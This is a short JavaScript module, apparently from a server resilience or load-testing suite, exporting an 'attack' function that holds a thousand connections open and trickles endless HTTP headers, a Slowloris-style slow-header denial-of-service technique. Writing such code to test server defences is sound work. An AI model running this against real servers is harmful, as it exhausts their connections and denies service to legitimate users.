// A thousand requests whose headers never end: a line a second.
import { holdConnections } from '../support/connections.mjs';

export const attack = (target) =>
  holdConnections(target, 1000, (socket) => {
    socket.resume();
    socket.write(`GET / HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\n`);
    let number = 0;
    return () => socket.write(`X-Header-${(number += 1)}: x\r\n`);
  });
